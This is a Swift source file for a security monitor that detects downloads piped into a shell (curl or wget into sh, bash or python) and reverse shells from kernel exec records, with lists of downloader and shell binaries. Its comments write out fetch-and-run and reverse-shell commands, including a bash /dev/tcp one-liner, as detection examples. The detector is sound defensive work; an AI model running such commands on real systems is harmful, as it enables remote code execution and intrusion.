/// Downloads piped into a shell or interpreter (`curl -s URL | sh`, `wget -qO- URL | bash`,
/// `curl URL | python3`): the download tool's stdout and the shell's stdin are the same pipe,
/// which the kernel reports at each exec (`stdin_pipe` / `stdout_pipe` of the exec record).
/// Either end may exec first; an end waits at most `window` for the other.
public struct PipelineDetector: Sendable {
    public static let downloaders: Set<String> = [
        "curl", "wget", "wget2", "fetch", "aria2c", "axel", "tftp", "ftp", "lwp-download", "lwp-request", "GET", "nc", "ncat", "socat",
    ]
    public static let shells: Set<String> = [
        "sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "csh", "tcsh", "fish",
        "python", "python2", "python3", "perl", "ruby", "php", "node", "lua",
    ]

    /// A detected pipeline: what downloaded, what ran it, the pipe between them.
    public struct Match: Sendable, Equatable {
        public var source: ProcessEntry
        public var shell: ProcessEntry
        public var pipe: UInt64
    }

    struct End: Sendable {
        var process: ProcessEntry
        var timeNs: UInt64
    }

    /// Shells proper (a reverse shell is one of these started with a socket on stdin or stdout).
    public static let shellsOnly: Set<String> = ["sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "csh", "tcsh", "fish", "ash"]

    /// A shell whose stdin or stdout is a socket at exec: `nc -e /bin/sh`, and the shell that
    /// `bash -i >& /dev/tcp/HOST/PORT 0>&1` starts.
    public static func isReverseShell(_ p: ProcessEntry, stdioSocket: Bool) -> Bool {
        stdioSocket && shellsOnly.contains(String(base(p.binary)))
    }

    public var window: UInt64 = 10_000_000_000
    /// Waiting ends by pipe (bounded: the oldest half is dropped when full).
    private var writers: [UInt64: End] = [:]
    private var readers: [UInt64: End] = [:]
    static let capacity = 4096

    public init() {}

    static func base(_ path: String) -> Substring {
        // python3.11 counts as python3, bash5 as bash
        var name = path.split(separator: "/").last ?? Substring(path)
        if let dot = name.firstIndex(of: "."), name[..<dot].hasPrefix("python") { name = name[..<dot] }
        return name
    }

    /// Looks at one exec; returns the pipeline it completes, if any.
    public mutating func observe(_ p: ProcessEntry, stdinPipe: UInt64, stdoutPipe: UInt64, timeNs: UInt64) -> Match? {
        let name = Self.base(p.binary)
        if stdoutPipe != 0, Self.downloaders.contains(String(name)) {
            if let r = readers.removeValue(forKey: stdoutPipe), timeNs &- r.timeNs <= window {
                return Match(source: p, shell: r.process, pipe: stdoutPipe)
            }
            Self.insert(&writers, stdoutPipe, End(process: p, timeNs: timeNs))
        }
        if stdinPipe != 0, Self.shells.contains(String(name)) {
            if let w = writers.removeValue(forKey: stdinPipe), timeNs &- w.timeNs <= window {
                return Match(source: w.process, shell: p, pipe: stdinPipe)
            }
            Self.insert(&readers, stdinPipe, End(process: p, timeNs: timeNs))
        }
        return nil
    }

    private static func insert(_ table: inout [UInt64: End], _ pipe: UInt64, _ end: End) {
        if table.count >= capacity {
            let cut = table.values.map(\.timeNs).sorted()[capacity / 2]
            table = table.filter { $0.value.timeNs >= cut }
        }
        table[pipe] = end
    }
}

/// A detection made in user space from kernel facts (today: a download piped to a shell).
public struct DetectionEvent: Sendable, Equatable {
    /// The JSON event name, e.g. `process_pipeline`.
    public var name: String
    /// e.g. `download-piped-to-shell`.
    public var detection: String
    public var process: ProcessEntry
    public var parent: ProcessEntry?
    /// The other process involved (the download tool).
    public var source: ProcessEntry?
    public var message: String
    public var tags: [String]
    public var timeNs: UInt64

    public init(
        name: String, detection: String, process: ProcessEntry, parent: ProcessEntry?, source: ProcessEntry?, message: String, tags: [String], timeNs: UInt64
    ) {
        self.name = name
        self.detection = detection
        self.process = process
        self.parent = parent
        self.source = source
        self.message = message
        self.tags = tags
        self.timeNs = timeNs
    }
}
